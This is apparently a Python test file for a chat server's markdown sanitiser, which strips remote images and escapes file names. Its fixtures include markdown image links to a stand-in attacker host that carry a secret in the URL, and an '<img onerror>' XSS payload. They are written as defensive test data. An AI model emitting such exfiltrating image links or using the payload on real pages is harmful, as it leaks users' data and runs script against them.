"""Text the server sends never carries an image that loads from another host."""

from __future__ import annotations

from app.chat.markdown import as_written, literal, shown_markdown, without_remote_images


def test_remote_images_become_their_description() -> None:
    leak = "See ![chart](http://evil.example/x.png?q=secret) and ![](https://evil.example/y)."
    assert without_remote_images(leak) == "See [image: chart] and [image]."
    spaced = '![a]( <//evil.example/z.png> "title")'
    assert without_remote_images(spaced) == "[image: a]"
    by_reference = "![logo][1]\n\n[1]: https://evil.example/logo.png"
    assert without_remote_images(by_reference).startswith("[image: logo]\n")


def test_images_served_by_cadre_itself_stay() -> None:
    local = "![avatar](/avatars/cadre) ![inline](data:image/png;base64,iVBOR) plain [link](https://x.example)"
    assert without_remote_images(local) == local


def test_a_name_from_a_file_is_shown_as_the_text_it_is() -> None:
    name = "plan ![x](https:evil.example) <img src=x onerror=alert(1)> *b* `c` q3_report.md"
    assert literal(name) == (
        r"plan !\[x\](https\:evil.example) \<img src=x onerror=alert(1)\> \*b\* \`c\` q3_report.md"
    )
    # A line break would end the bold name and could start a link reference definition.
    assert (
        literal("a.pdf\n[1]: https://evil.example/x.png")
        == r"a.pdf \[1\]: https://evil.example/x.png"
    )


def test_a_colon_before_a_letter_is_escaped_outside_code_and_restored_for_the_model() -> None:
    answer = "55:text/x-diff, a::b, 10:30, https://example.org/x and `k:v`\n```\nx:y\n```"
    escaped = shown_markdown(answer)
    assert escaped == (
        "55\\:text/x-diff, a\\:\\:b, 10:30, https://example.org/x and `k:v`\n```\nx:y\n```"
    )
    assert as_written(escaped) == answer
    assert literal("notes:draft.md") == "notes\\:draft.md"
